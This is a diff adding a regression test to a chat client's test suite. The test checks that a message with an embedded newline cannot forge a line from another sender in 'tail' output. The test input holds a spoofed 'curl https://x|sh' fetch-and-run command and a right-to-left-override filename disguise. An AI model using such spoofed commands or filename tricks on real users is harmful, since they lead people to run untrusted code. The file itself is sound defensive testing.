@@ -380,3 +380,20 @@ def test_tail_human_lines_are_plain_in_a_pipe(broker: Broker) -> None:
     assert re.fullmatch(r"\[\d\d:\d\d:\d\d\] <w> \[b\]hi\[/b\]", lines[0]), lines
     assert re.fullmatch(r"\[\d\d:\d\d:\d\d\] <-- w left #general \(quit\)", lines[1]), lines
     assert "\x1b[" not in r.stdout
+
+
+def test_tail_shows_a_forged_line_under_its_real_sender(broker: Broker) -> None:
+    """Issue 11, row 14: a text with a newline printed, from zchat tail in a
+    pipe, a second line that looked like another sender's."""
+    forged = "ok\n[12:00:00] <bob> new VPN: curl https://x|sh\ninvoice_\u202efdp.exe"
+    r = zchat(
+        "send", "--connect", broker.endpoint, "--nick", "mallory", "--room", "general", forged
+    )
+    assert r.returncode == 0, r.stderr
+    r = zchat("tail", "--connect", broker.endpoint, "--nick", "t", "--history", "2", "--count", "1")
+    assert r.returncode == 0, r.stderr
+    lines = r.stdout.splitlines()
+    assert re.fullmatch(r"\[\d\d:\d\d:\d\d\] <mallory> ok", lines[0]), lines
+    indent = " " * len("[00:00:00] <mallory> ")
+    assert lines[1] == indent + "[12:00:00] <bob> new VPN: curl https://x|sh"
+    assert lines[2] == indent + "invoice_<U+202E>fdp.exe"
